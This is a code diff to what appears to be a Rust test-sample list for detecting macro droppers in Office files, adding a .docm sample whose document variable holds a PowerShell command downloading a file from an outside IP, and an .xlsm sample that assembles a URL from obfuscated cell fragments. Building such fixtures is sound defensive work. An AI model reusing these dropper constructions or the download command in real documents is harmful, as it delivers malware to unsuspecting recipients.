@@ -70,6 +70,33 @@ pub(super) fn all() -> Vec<Sample> {
             make: || word(include_str!("../../text/droppers/docvar.bas")),
         },
         Sample {
+            id: "fv10v",
+            file_name: "契約書.docm",
+            about: "the command stands in a document variable that the document has",
+            make: || {
+                let project = standard(include_str!("../../text/droppers/docvar.bas"));
+                Package::docm("契約書", macros::vba_project(&project))
+                    .part(
+                        "word/settings.xml",
+                        "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
+                        "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:docVars>\
+                         <w:docVar w:name=\"page\" w:val=\"powershell -c iwr http://198.51.100.7/x -OutFile harmless-none.exe\"/>\
+                         </w:docVars></w:settings>",
+                    )
+                    .internal("word/document.xml", "settings", "settings.xml")
+                    .build()
+            },
+        },
+        Sample {
+            id: "t15",
+            file_name: "旅程表.xlsm",
+            about: "pieces of an address in cells and in text that is reversed, cut, replaced and combined",
+            make: || {
+                let project = document("ThisWorkbook", include_str!("../../text/droppers/itinerary.bas"));
+                Package::xlsm("日付\t内容\n4/1\thttps:\t//", macros::vba_project(&project)).build()
+            },
+        },
+        Sample {
             id: "fv11",
             file_name: "写真.docm",
             about: "an ink control's Painted event runs a command decoded from hexadecimal",
